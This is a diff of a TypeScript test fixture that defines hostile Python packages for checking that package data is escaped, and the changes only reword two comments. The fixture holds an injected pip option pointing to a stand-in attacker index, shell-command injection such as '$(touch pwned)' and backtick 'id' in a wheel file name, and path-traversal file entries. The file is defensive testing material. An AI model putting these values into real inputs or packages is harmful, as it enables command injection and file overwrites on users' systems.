@@ -1,8 +1,8 @@
 import type { HermeticPackage } from "./definition";
 
 /**
- * What an attacker can send to a public index. Project names are safe there by PEP 508; everything else, file contents,
- * requirement lines, reasons, specifiers, is theirs. Nothing of it may reach a shell, a pip option, a page or a terminal as is.
+ * Input that an attacker can upload to a public index. PEP 508 keeps project names safe; file contents, requirement lines,
+ * reasons and specifiers may be anything. None of it may reach a shell, a pip option, a page or a terminal unescaped.
  */
 const requirementLines = [
   "--index-url=https://attacker.invalid/simple",
@@ -72,7 +72,7 @@ export const hostilePackages: readonly HermeticPackage[] = [
     name: "sandbox-hostile-versions",
     releases: [{ version: "1.0+touch.pwned" }, { version: "99999999999!1" }, { version: Array.from({ length: 60 }, () => "1").join(".") }],
   },
-  // The one part of a wheel's file name that may be anything that begins with a digit: the build tag.
+  // The build tag is the only part of a wheel's file name that may be any text, as long as it begins with a digit.
   { name: "sandbox-hostile-files", releases: [{ version: "1.0", wheels: ["1$(touch pwned);`id`&'\"<b>%2e%2e#?-py3-none-any"] }] },
   { name: "sandbox-hostile-paths", releases: [{ version: "1.0", wheelFiles: { "../../pwned.txt": "outside", "/pwned.txt": "root" } }] },
   { name: "sandbox-hostile-no-metadata", releases: [{ version: "1.0", rawHeaders: ["", "This is a body without headers."] }] },
